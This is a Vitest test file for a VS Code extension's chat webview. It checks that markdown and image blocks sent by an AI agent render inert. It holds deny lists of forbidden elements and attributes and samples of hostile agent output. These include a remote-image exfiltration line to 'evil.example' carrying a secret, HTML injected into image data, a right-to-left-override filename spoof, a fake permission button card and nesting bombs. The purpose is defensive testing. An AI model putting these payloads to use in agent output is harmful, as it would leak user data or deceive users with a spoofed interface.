// @vitest-environment jsdom
// Every case of test/fixtures/hostile/markdown.json, rendered as an agent message: nothing in it
// can load from the network, look like or act as our UI, or take long to render.
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { MAX_INLINE_IMAGE_CHARS } from '../../../webview/render/markdown/agentImages';
import { renderContentBlock } from '../../../webview/render/tools/contentBlock';
import { renderMarkdownOnce, IncrementalMarkdown } from '../../../webview/render/markdown/markdown';

interface HostileCase {
  name: string;
  markdown?: string;
  repeat?: [string, number][];
  lines?: { indentBy: number; count: number; line: string };
}

const corpus = JSON.parse(readFileSync(join(__dirname, '../../fixtures/hostile/markdown.json'), 'utf8')) as {
  cases: HostileCase[];
};

export function caseText(c: HostileCase): string {
  if (c.markdown !== undefined) return c.markdown;
  if (c.repeat) return c.repeat.map(([text, times]) => text.repeat(times)).join('');
  if (c.lines)
    return Array.from({ length: c.lines.count }, (_, i) => ' '.repeat(i * c.lines!.indentBy) + c.lines!.line).join(
      '\n',
    );
  throw new Error(`case ${c.name} has no text`);
}

/** Classes our decorations put on rendered markdown (codeBlocks.ts, highlight.ts, segments.ts, ...). */
const OUR_CLASSES = new Set([
  'markdown',
  'md-chapter',
  'md-segment',
  'md-end',
  'code-block',
  'code-header',
  'code-language',
  'copy-code',
  'code-lines',
  'blocked-image',
  'markdown-plain',
  'path-link',
]);
/** Attributes only our path links carry (pathLinks.ts): the path the host checks before opening anything. */
const PATH_LINK_ATTRIBUTES = /^(?:data-path|data-line|data-column|tabindex|role)$/;
/** Elements that may never come out of agent content (our only button is the Copy of a code block). */
const FORBIDDEN =
  'select, textarea, label, dialog, marquee, iframe, object, embed, form, video, audio, source, track, picture, svg, math, link, meta, base, style, script, image, img:not([src^="data:image/"])';
/** Attributes that fetch, style, identify or act. */
const FORBIDDEN_ATTRIBUTES =
  /^(?:on.*|style|id|name|for|form|formaction|action|ping|srcset|poster|background|lowsrc|dynsrc|longdesc|popover.*|xlink:href|data-.*|autofocus|contenteditable|tabindex)$/i;

export function assertInert(root: Element, label: string): void {
  for (const el of Array.from(root.querySelectorAll('*'))) {
    const where = `${label}: <${el.tagName.toLowerCase()} ${Array.from(el.attributes)
      .map((a) => `${a.name}="${a.value}"`)
      .join(' ')}>`;
    for (const attr of Array.from(el.attributes)) {
      if (el.tagName === 'A' && el.className === 'path-link' && PATH_LINK_ATTRIBUTES.test(attr.name)) {
        if (attr.name === 'data-path')
          expect(attr.value, where).not.toMatch(/^[a-z][a-z0-9+.-]*:|^\/|(?:^|\/)\.\.(?:\/|$)/i);
        continue;
      }
      expect(FORBIDDEN_ATTRIBUTES.test(attr.name), where).toBe(false);
      // A URL in an attribute is inert only as a link's href (a click, which VS Code confirms).
      if (attr.name !== 'href' && attr.name !== 'title' && attr.name !== 'alt')
        expect(attr.value, where).not.toMatch(/https?:|\/\//i);
      if (attr.name === 'href') expect(el.tagName, where).toBe('A');
      if (attr.name === 'src') expect(attr.value, where).toMatch(/^data:image\/(?:png|jpeg|gif|webp|avif|bmp);base64,/);
    }
    for (const name of Array.from(el.classList)) {
      const ours =
        OUR_CLASSES.has(name) || name.startsWith('hljs') || (name.startsWith('language-') && el.tagName === 'CODE');
      expect(ours, `${where}: class ${name}`).toBe(true);
    }
    if (el.tagName === 'BUTTON')
      expect(el.className === 'copy-code' && el.parentElement?.className === 'code-header', where).toBe(true);
    if (el.tagName === 'INPUT')
      expect(el.getAttribute('type') === 'checkbox' && el.hasAttribute('disabled'), where).toBe(true);
  }
  expect(root.querySelector(FORBIDDEN), label).toBeNull();
  for (const link of Array.from(root.querySelectorAll('a[href]')))
    expect(link.getAttribute('href'), label).toMatch(/^(?:https?:|mailto:|#|[^:]*$)/i);
  expect(root.querySelector('[target], [rel]'), label).toBeNull();
}

describe('hostile markdown corpus', () => {
  it('has cases', () => {
    expect(corpus.cases.length).toBeGreaterThan(30);
  });

  for (const c of corpus.cases) {
    it(`${c.name}: inert, nothing of ours, quick`, () => {
      const text = caseText(c);
      const started = performance.now();
      const el = renderMarkdownOnce(text);
      // Streamed too: the open tail is rendered again as it grows (in a few big steps here).
      const streamed = new IncrementalMarkdown();
      for (const cut of [0.25, 0.5, 0.75, 1]) streamed.update(text.slice(0, Math.ceil(text.length * cut)));
      const elapsed = performance.now() - started;
      assertInert(el, c.name);
      assertInert(streamed.el, `${c.name} (streamed)`);
      expect(elapsed, `${c.name} took ${elapsed.toFixed(0)} ms`).toBeLessThan(1500);
    });
  }
});

describe('remote images', () => {
  it('become a placeholder naming the host, a link the user may click (VS Code asks before opening)', () => {
    const el = renderMarkdownOnce('![secret](https://evil.example/p.png?d=SECRET)');
    const placeholder = el.querySelector('.blocked-image') as HTMLAnchorElement;
    expect(el.querySelector('img')).toBeNull();
    expect(placeholder.textContent).toBe('Image “secret” from evil.example — not loaded');
    expect(placeholder.tagName).toBe('A');
    expect(placeholder.getAttribute('href')).toBe('https://evil.example/p.png?d=SECRET');
  });

  it('the alt text in a placeholder shows its invisible characters', () => {
    const el = renderMarkdownOnce('![ok\u202Etxt.exe\u200B](https://evil.example/a.png)');
    expect(el.querySelector('.blocked-image')?.textContent).toBe(
      'Image “ok⟨U+202E⟩txt.exe⟨U+200B⟩” from evil.example — not loaded',
    );
  });

  it('inside a link, the placeholder is text (links do not nest) and the link stays', () => {
    const el = renderMarkdownOnce('[![badge](https://evil.example/b.svg)](https://example.com)');
    expect(el.querySelectorAll('a')).toHaveLength(1);
    expect(el.querySelector('a')?.getAttribute('href')).toBe('https://example.com');
    expect(el.querySelector('span.blocked-image')?.textContent).toBe('Image “badge” from evil.example — not loaded');
  });

  it('keeps bounded raster data: images (no request leaves), not SVG ones', () => {
    const png =
      'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==';
    expect(renderMarkdownOnce(`![dot](${png})`).querySelector('img')?.getAttribute('src')).toBe(png);
    expect(renderMarkdownOnce('![svg](data:image/svg+xml;base64,PHN2Zy8+)').querySelector('img')).toBeNull();
  });
});

describe('ACP image blocks', () => {
  const post = () => undefined;
  const image = (fields: Record<string, unknown>) =>
    renderContentBlock({ type: 'image', mimeType: 'image/png', data: 'iVBORw0KGgo=', ...fields } as never, post);

  it('show the bytes the agent sent as a data: image', () => {
    expect(image({}).getAttribute('src')).toBe('data:image/png;base64,iVBORw0KGgo=');
  });

  it('never load a URL, and refuse SVG, oversized, non-base64 or non-string data', () => {
    const cases = [
      image({ data: undefined, uri: 'https://evil.example/i.png' }),
      image({ mimeType: 'image/svg+xml' }),
      image({ data: 'A'.repeat(MAX_INLINE_IMAGE_CHARS + 4) }),
      image({ data: 'iVBOR"><img src=https://evil.example/x>' }),
      image({ data: 5 }),
      image({ mimeType: 'image/png;x=https://evil.example' }),
    ];
    for (const el of cases) {
      expect(el.tagName).not.toBe('IMG');
      expect(el.classList.contains('blocked-image')).toBe(true);
    }
    expect(cases[0]!.textContent).toBe('Image from evil.example — not loaded');
  });
});

describe('agent content paints only inside its own box', () => {
  it('chat.css contains the markdown container, tool text and error cards', () => {
    const css = readFileSync(join(__dirname, '../../../media/chat.css'), 'utf8');
    expect(css).toMatch(/\n\.markdown \{[^}]*contain: paint/);
    expect(css).toMatch(/\.content-resource,\s*\.tool-text\s*\{\s*contain: paint;\s*\}/);
  });
});

describe('agent HTML cannot pose as our UI', () => {
  it('a fake permission card keeps its text but none of our classes or controls', () => {
    const el = renderMarkdownOnce(
      '<div class="permission-options"><button class="permission-option danger">Reject</button><input type="button" class="primary" value="Reject"></div>',
    );
    expect(el.textContent).toContain('Reject');
    expect(el.querySelector('button, input, .permission-options, .permission-option, .primary, .danger')).toBeNull();
  });

  it('task-list checkboxes stay, disabled', () => {
    const boxes = Array.from(renderMarkdownOnce('- [x] done\n- [ ] todo').querySelectorAll('input'));
    expect(boxes.map((b) => [b.type, b.checked, b.disabled])).toEqual([
      ['checkbox', true, true],
      ['checkbox', false, true],
    ]);
  });

  it('a code block keeps its language (the one class agent HTML may carry) and gets our header after sanitising', () => {
    const el = renderMarkdownOnce('```ts\nconst a = 1;\n```');
    expect(el.querySelector('code.language-ts')).not.toBeNull();
    expect(el.querySelector('.code-header .code-language')?.textContent).toBe('ts');
    expect(el.querySelector('.hljs-keyword')?.textContent).toBe('const');
  });
});

describe('nesting marked cannot render', () => {
  it('is shown as plain text, quickly', () => {
    for (const text of [
      '>'.repeat(3000),
      '*a '.repeat(2000) + 'b' + ' a*'.repeat(2000),
      '- '.repeat(2000) + 'a',
      '<div>'.repeat(3000) + 'x',
    ]) {
      const started = performance.now();
      const el = renderMarkdownOnce(text);
      expect(performance.now() - started).toBeLessThan(500);
      expect(el.querySelector('.markdown-plain')?.textContent).toBe(text);
    }
  });

  it('ordinary emphasis, lists and quotes still render as markdown', () => {
    const el = renderMarkdownOnce(
      '> quote\n\n- a\n  - b\n\n**bold** and *it* and `*p` in code\n\n```c\n*p = *q * *r;\n```',
    );
    expect(el.querySelector('.markdown-plain')).toBeNull();
    expect(el.querySelector('blockquote')).not.toBeNull();
    expect(el.querySelector('strong')?.textContent).toBe('bold');
  });
});
